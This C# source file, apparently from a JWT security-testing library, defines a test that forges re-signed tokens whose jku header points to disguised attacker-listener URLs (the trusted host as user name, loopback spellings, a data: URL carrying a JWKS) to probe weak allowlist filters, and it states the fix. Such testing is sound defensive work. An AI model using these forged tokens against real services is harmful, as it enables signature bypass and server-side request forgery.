using System.Text;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A filter on <c>jku</c> that looks for the trusted host somewhere in the text, or for loopback in one spelling. The open
/// redirect on the trusted host is not tried: it would send the service to that host. RFC 8725 3.10.
/// </summary>
internal sealed class JkuAllowlistBypass : JwtAttack
{
    public override string Id => "CRY1063";

    public override JwtFamily Family => JwtFamily.EmbeddedKey;

    public override IReadOnlyList<int> Cwe => [918, 601];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 9.1.3", "ASVS 1.3.6"];

    public override string Cause => "follows a jku that only looks like an address of the trusted host";

    public override string Why => "the filter on key addresses stops nobody who reads how URLs are parsed";

    public override string Fix =>
        "compare the whole jku with a list of exact URLs, or new Uri(jku) by Scheme, Host and Port, before anything is fetched; better, ignore jku";

    internal override Needs Needs => Needs.Callback;

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1061", "CRY1062"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        if (attacker.Callback is not { } listener)
        {
            yield break;
        }

        var token = attacker.Token;
        var signer = AttackerKeys.PublicKeySignerFor(token.Alg);
        var keyPath = CallbackDocuments.KeyPath(signer.Alg, token.Kid);
        foreach (var (variant, pattern) in DisguisedUrls.For(TrustedHost.Of(token), listener.Port))
        {
            var id = listener.NewId();
            yield return With(pattern.Replace(DisguisedUrls.Path, $"/{id}/{keyPath}", StringComparison.Ordinal), id, variant);
        }

        if (TrustedHost.Of(token) is { } host)
        {
            var id = listener.NewId();
            using var door = listener.OpenTlsDoor(id);
            yield return With($"https://{host}@{door.Authority}/{id}/jwks.json", id, "https, the trusted host as user name");
        }

        var jwks = Convert.ToBase64String(Encoding.UTF8.GetBytes(CallbackDocuments.JwksOf(signer.Alg, token.Kid)));
        yield return With($"data:application/json;base64,{jwks}", callback: null, "a data: URL that is the JWKS");

        Forgery With(string url, string? callback, string variant) =>
            new(ResignedJwt.With(token, signer, header => header["jku"] = url), variant) { Callback = callback };
    }
}
